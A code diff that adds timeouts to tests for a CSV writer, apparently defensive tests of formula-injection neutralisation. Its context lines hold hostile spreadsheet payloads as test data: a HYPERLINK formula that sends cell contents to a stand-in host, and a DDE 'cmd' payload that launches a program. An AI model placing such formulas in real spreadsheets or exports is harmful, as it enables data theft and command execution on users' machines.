@@ -63,7 +63,7 @@ function oneColumn(values: number[]): RecordBatch {
 
 const encodedNumbers = (values: number[]) => encode([oneColumn(values)]).split('\n').slice(1, -1);
 
-describe('CSV numbers', () => {
+describe('CSV numbers', { timeout: 120_000 }, () => {
   const awkward = [
     0, -0, 1, -1, 2 ** 53, -(2 ** 53), 2 ** 53 + 2, 1e21, 1e-7, 1e-6, 1.5e-6, 999999999999999.9, 1e15, 0.1, 0.2, 0.3,
     1 / 3, -2 / 3, 123.456, 5e-324, 2.2250738585072014e-308, 2.225073858507201e-308, Number.MAX_VALUE, -Number.MAX_VALUE,
@@ -97,7 +97,7 @@ describe('CSV numbers', () => {
   });
 });
 
-describe('CSV writer', () => {
+describe('CSV writer', { timeout: 120_000 }, () => {
   const text = fc.oneof(
     fc.string({ unit: 'grapheme', maxLength: 12 }),
     fc.constantFrom('=1+1', '+cmd', '-2+3', '@SUM(1)', '\tx', '\rx', ' lead', 'trail ', 'a,b', 'say "hi"', 'two\nlines', 'ACC-01', 'ünï', ''),
@@ -196,7 +196,7 @@ describe('CSV writer', () => {
   });
 });
 
-describe('CSV formula injection', () => {
+describe('CSV formula injection', { timeout: 120_000 }, () => {
   const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1'];
 
   it('neutralises text that a spreadsheet would take for a formula (OWASP: a leading quote, and quoted)', () => {
